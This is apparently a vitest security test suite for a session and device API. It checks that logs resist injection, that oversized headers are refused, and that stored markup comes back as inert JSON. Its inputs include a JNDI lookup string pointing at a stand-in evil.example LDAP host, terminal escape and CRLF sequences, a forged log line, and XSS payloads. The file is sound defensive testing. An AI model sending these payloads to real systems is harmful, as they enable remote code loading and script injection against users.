import { expect } from 'vitest'
import { rawGet, rawRequest } from '../../raw-request.ts'
import { serviceKey } from '../../running-program.ts'
import type { SecurityCase } from '../security-case.ts'
import { askAsService, currentSession, newSession, ownSessions } from '../sessions-of-store.ts'
import type { StartedStore } from '../started-store.ts'

const odd =
  '\u001b[2J\u001b]0;x\u0007$' +
  '{jndi:ldap://evil.example/a}|CEF:0|a=b|\u2028\u202e\r\n{"level":60,"msg":"forged"}'
const script = `"><img src=x onerror=alert(1)><script>alert(1)</script>{{7*7}}'`

/** Text of strangers that is kept, shown and logged. */
export const headerTextCases: readonly SecurityCase[] = [
  {
    name: 'case 42: line ends, terminal codes and the marks of log formats in what is sent make no line of the log, and a request is one line [ASVS 16.4.1]',
    async run(store) {
      const { token } = await newSession(store, { user_agent: odd, device_info: { browser: odd, os: odd } })
      const answers = await Promise.all([
        store.ask({
          path: `/nowhere/${encodeURIComponent(odd)}?a=${encodeURIComponent(odd)}`,
          session: token,
        }),
        askAsService(store, 'POST', '/api/v1/sessions', { user_id: odd, user_agent: odd }),
        store.ask({ method: 'POST', path: '/api/v1/auth/login', body: { email: odd, password: odd } }),
        store.ask({ path: `/api/v1/users/${encodeURIComponent(odd)}/sessions`, bearer: serviceKey }),
        store.ask({ path: currentSession, headers: { 'x-request-id': odd.replaceAll(/[^\x20-\x7e]/g, '') } }),
      ])
      const [url] = store.urls()
      const inHeaders: readonly (readonly [string, Uint8Array])[] = [
        'User-Agent',
        'X-Forwarded-For',
        'Referer',
      ].map((name) => [name, Buffer.from(odd.replaceAll(/[\r\n]/g, ''), 'utf8')] as const)
      await rawRequest(url, rawGet(currentSession, inHeaders))
      await rawRequest(url, rawGet(currentSession, [['User-Agent', Buffer.from('a\r\n b\n c\rd')]]))
      for (const { status, headers } of answers) {
        expect(status).toBeLessThan(500)
        const linesOfIt = () => linesAbout(store, String(headers['x-request-id'])).length
        await expect.poll(linesOfIt, { timeout: 5_000 }).toBe(1)
      }
      const lines = store.output().split('\n')
      // Nothing that a terminal or a reader of lines would take for more than text.
      expect(lines.filter((line) => /[\p{Cc}\u2028\u202e]/u.test(line))).toEqual([])
      expect(lines.filter((line) => line.includes('forged'))).toEqual([])
      for (const line of lines.filter((one) => one.startsWith('{')))
        expect(() => JSON.parse(line)).not.toThrow()
    },
  },
  {
    name: 'case 42: a User-Agent of 100 kB is refused or cut, and names of devices that are long or of two lines are refused',
    async run(store) {
      const huge = 'a'.repeat(100_000)
      const [url] = store.urls()
      const { status } = await rawRequest(url, rawGet(currentSession, [['User-Agent', Buffer.from(huge)]]))
      expect([0, 431]).toContain(status)
      const api = (body: object) => askAsService(store, 'POST', '/api/v1/sessions', { user_id: 'a', ...body })
      for (const body of [
        { user_agent: huge },
        { device_info: { browser: huge } },
        { device_info: { os: huge } },
      ])
        expect([413, 422]).toContain((await api(body)).status)
      const long = await newSession(store, { user_agent: 'Mozilla/5.0 '.repeat(1_300), device_tokens: [] })
      const list = await store.ask({ path: ownSessions, session: long.token })
      expect(list.text.length).toBeLessThan(5_000)
      const device = list.body.sessions[0].device_id
      const path = `/api/v1/security/devices/${device}`
      for (const name of ['a'.repeat(61), 'a\r\nb', 'a\nb', '\u0000', '\ud800']) {
        const answer = await store.ask({ method: 'PATCH', path, session: long.token, body: { name } })
        expect([400, 422], JSON.stringify(name)).toContain(answer.status)
      }
    },
  },
  {
    name: 'case 43: markup in the name of a device, a browser or a place comes back as text of JSON, which no browser takes for a page [ASVS 3.4.3] [ASVS 3.4.4]',
    async run(store) {
      const info = { browser: script, os: script, location: script }
      const { token, user } = await newSession(store, {
        user: `${script}-${process.hrtime.bigint()}`,
        user_agent: script,
        device_info: info,
        device_tokens: [],
      })
      const { body } = await store.ask({ path: currentSession, session: token })
      expect(body.device_info).toMatchObject(info)
      const device = `/api/v1/security/devices/${body.device_id}`
      const name = script.slice(0, 60)
      const named = await store.ask({ method: 'PATCH', path: device, session: token, body: { name } })
      expect(named.status, named.text).toBe(200)
      const admin = await store.administrator()
      const search = new URLSearchParams({ user_id: user })
      const shown = [
        { path: ownSessions, session: token },
        { path: '/api/v1/security/devices', session: token },
        { path: '/api/v1/security/activity', session: token },
        { path: `/api/v1/admin/sessions?${search}`, session: admin },
        { path: `/api/v1/admin/audit?${search}`, session: admin },
        { path: `/nowhere/${encodeURIComponent(script)}`, headers: { accept: 'text/html' } },
        { path: `/api/v1/${encodeURIComponent(script)}`, headers: { accept: 'text/html' } },
      ]
      for (const asking of shown) {
        const { headers, text } = await store.ask(asking)
        expect(headers['x-content-type-options']).toBe('nosniff')
        expect(headers['content-security-policy']).toMatch(/script-src 'self'(;|$)/)
        const isPage = headers['content-type']?.startsWith('text/html')
        if (isPage) expect(text).not.toMatch(/onerror|alert\(1\)/)
        else expect(headers['content-type']).toMatch(/^application\/(problem\+)?json/)
      }
    },
  },
]

/** That say that a request was answered. */
function linesAbout(store: StartedStore, requestId: string): readonly string[] {
  const lines = store.output().split('\n')
  return lines.filter((line) => line.includes(requestId) && line.includes('"request"'))
}
